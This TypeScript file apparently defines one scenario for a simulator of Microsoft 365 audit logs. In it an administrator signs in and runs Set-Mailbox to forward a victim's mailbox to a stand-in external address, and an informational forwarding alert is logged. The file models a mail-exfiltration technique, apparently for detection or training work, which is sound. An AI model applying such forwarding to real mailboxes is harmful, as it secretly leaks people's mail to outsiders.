import { tellPolicyAlert } from './records/alert.ts'
import { tellCmdlet } from './records/exchange.ts'
import { tellSignIn } from './records/sign-in.ts'
import { places, victimOf } from './stage.ts'
import type { Story } from './story.ts'

const OUTSIDE = 'smtp:archive@outside.example'

/** An administrator has all mail of a mailbox sent outside. */
export const mailboxForwarding: Story = {
  id: 'mailbox-forwarding',
  title: 'An administrator forwards a mailbox to the outside',
  lasts: 10,
  play(stage) {
    const person = stage.administrator
    const owner = victimOf(stage)
    const place = places.office
    const at = stage.at(5)
    tellSignIn(stage, { person, place, at: stage.at(0), secondFactor: 'approved' })
    tellCmdlet(stage, {
      cmdlet: 'Set-Mailbox',
      parameters: {
        Identity: owner.userPrincipalName,
        ForwardingSmtpAddress: OUTSIDE,
        DeliverToMailboxAndForward: 'True',
      },
      objectId: owner.userPrincipalName,
      person,
      userType: 2,
      place,
      at,
    })
    tellPolicyAlert(stage, {
      name: 'Creation of forwarding/redirect rule',
      severity: 'Informational',
      operation: 'MailRedirect',
      person,
      at,
    })
    const mailbox = stage.tenant.settings.exchange['Mailbox']?.find(
      ({ ExternalDirectoryObjectId }) => ExternalDirectoryObjectId === owner.id,
    )
    if (mailbox) {
      mailbox['ForwardingSmtpAddress'] = OUTSIDE
      mailbox['DeliverToMailboxAndForward'] = true
    }
  },
}
